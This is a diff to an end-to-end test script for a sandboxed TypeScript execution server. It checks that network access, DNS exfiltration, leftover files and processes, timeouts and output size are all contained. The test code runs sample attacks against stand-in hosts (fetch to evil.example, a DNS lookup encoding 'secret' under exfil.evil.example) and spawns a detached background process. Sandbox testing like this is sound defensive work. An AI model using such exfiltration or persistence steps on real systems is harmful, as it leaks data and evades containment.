@@ -29,6 +29,7 @@ const brief = (value) => JSON.stringify(value).slice(0, 600);
 async function call(client, code) {
 	const result = await client.callTool({ name: 'run_typescript', arguments: { code } },
 					     undefined, { timeout: 120000 });
+	console.log(`# call: ${result.structuredContent?.duration_ms} ms`);
 	return result;
 }
 
@@ -72,8 +73,15 @@ check('text content', r.content?.[0]?.type === 'text' &&
 
 // Elsewhere: another name, an address, a DNS exfiltration look-up (the audit log and the
 // result give names in lower case).
+// It also leaves a file, a background process and a look at a variable behind, which the
+// last call must not see.
 r = await call(client, `
 import { promises as dns } from 'node:dns';
+import { writeFileSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+writeFileSync('/tmp/left-behind', 'x');
+spawn('/bin/sleep', ['300', '${marker}'], { detached: true, stdio: 'ignore' }).unref();
+console.log('left', process.env.E2E_NOT_PASSED ?? 'no-variable');
 const why = (e: any) => e?.cause?.code ?? e?.code;
 for (const [what, go] of [
 	['name', () => fetch('https://evil.example/')],
@@ -87,6 +95,7 @@ for (const [what, go] of [
 s = r.structuredContent;
 const has = (op, destination) => s?.refused?.some((x) => x.op === op && x.destination === destination);
 check('elsewhere is refused', s?.exit_status === 0 && /address EPERM/.test(s.stdout) &&
+      s.stdout.includes('left no-variable') &&
       !s.stdout.includes('went through'), brief(s));
 check('refusals in the result', has('connect', '127.0.5.3:443') && has('dns', 'evil.example') &&
       has('dns', 'c2vjcmv0.exfil.evil.example') &&
@@ -100,27 +109,25 @@ check('unknown tool -32602', e?.code === -32602, brief(e?.message ?? 'no error')
 e = await rpcError(client.callTool({ name: 'run_typescript', arguments: { source: '1' } }));
 check('missing code -32602', e?.code === -32602, brief(e?.message ?? 'no error'));
 
-// A call that outlives the server's --timeout.
-r = await call(client, `await new Promise((resolve) => setTimeout(resolve, 600000));`);
-s = r.structuredContent;
-check('timeout', r.isError && s?.timed_out === true && s.exit_status === 124 &&
-      s.duration_ms < 60000, brief(s));
+// A call that outlives its timeout: a second server, whose --timeout (the last one given
+// wins) is 3 s, so that the other calls keep a timeout a loaded machine cannot reach.
+{
+	const quick = new Client({ name: 'launch-e2e-timeout', version: '1.0.0' });
+	await quick.connect(new StdioClientTransport({ command: launch, args: [...args, '--timeout', '3'],
+						       env: { ...process.env }, stderr: 'inherit' }));
+	r = await call(quick, `await new Promise((resolve) => setTimeout(resolve, 600000));`);
+	s = r.structuredContent;
+	check('timeout', r.isError && s?.timed_out === true && s.exit_status === 124 &&
+	      s.duration_ms >= 3000 && s.duration_ms < 30000, brief(s));
+	await quick.close();
+}
 
 // A call that crashes its runtime.
 r = await call(client, `process.kill(process.pid, 'SIGSEGV');`);
 s = r.structuredContent;
 check('crash', r.isError && s?.signal === 'SIGSEGV' && s.exit_status === 139, brief(s));
 
-// One call leaves a file, a background process and a variable; the next sees none of them.
-r = await call(client, `
-import { writeFileSync } from 'node:fs';
-import { spawn } from 'node:child_process';
-writeFileSync('/tmp/left-behind', 'x');
-spawn('/bin/sleep', ['300', '${marker}'], { detached: true, stdio: 'ignore' }).unref();
-console.log('left', process.env.E2E_NOT_PASSED ?? 'no-variable');
-`);
-check('first call ran', r.structuredContent?.stdout?.includes('left no-variable'),
-      brief(r.structuredContent));
+// The last call: nothing of the earlier ones is there, and a huge output is cut at the cap.
 r = await call(client, `
 import { existsSync, readdirSync, readFileSync } from 'node:fs';
 const others = readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).filter((p) => {
@@ -129,15 +136,13 @@ const others = readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).filter((p) =
 });
 console.log('file', existsSync('/tmp/left-behind'), 'processes', others.length,
 	    'key', process.env.STRIPE_API_KEY ? 'passed' : 'missing');
+process.stdout.write('x'.repeat(1000000));
 `);
-check('fresh sandbox per call', r.structuredContent?.stdout?.includes('file false processes 0 key passed'),
-      brief(r.structuredContent));
-
-// A huge output is cut at the cap.
-r = await call(client, `process.stdout.write('x'.repeat(1000000));`);
 s = r.structuredContent;
+check('fresh sandbox per call', s?.stdout?.startsWith('file false processes 0 key passed\n'),
+      brief({ ...s, stdout: s?.stdout?.slice(0, 80) }));
 check('output cap', s?.stdout_truncated === true && s.stdout.length <= 20000 &&
-      s.stdout.length > 0, brief({ ...s, stdout: s?.stdout?.length }));
+      s.stdout.length > 1000, brief({ ...s, stdout: s?.stdout?.length }));
 
 await client.ping();
 check('still up after all that', true, '');
